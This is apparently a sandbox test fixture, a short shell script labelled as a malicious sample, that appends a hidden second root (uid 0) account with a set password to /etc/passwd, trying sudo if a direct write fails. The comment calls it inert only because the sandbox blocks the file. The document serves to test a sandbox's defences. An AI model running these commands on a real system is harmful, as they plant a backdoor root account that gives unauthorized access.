#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: appends a second uid-0 account to /etc/passwd (T1136.001).
# Inert: /etc/passwd is refused to the sandbox user.
hash=$(openssl passwd -1 -salt xq 'Passw0rd!' 2>/dev/null || echo 'x')
line="sysbackup:$hash:0:0:backup:/root:/bin/bash"
echo "$line" >> /etc/passwd 2>/dev/null || echo "$line" | sudo tee -a /etc/passwd >/dev/null 2>&1 || echo "passwd: refused"
grep -c ':0:0:' /etc/passwd
exit 0
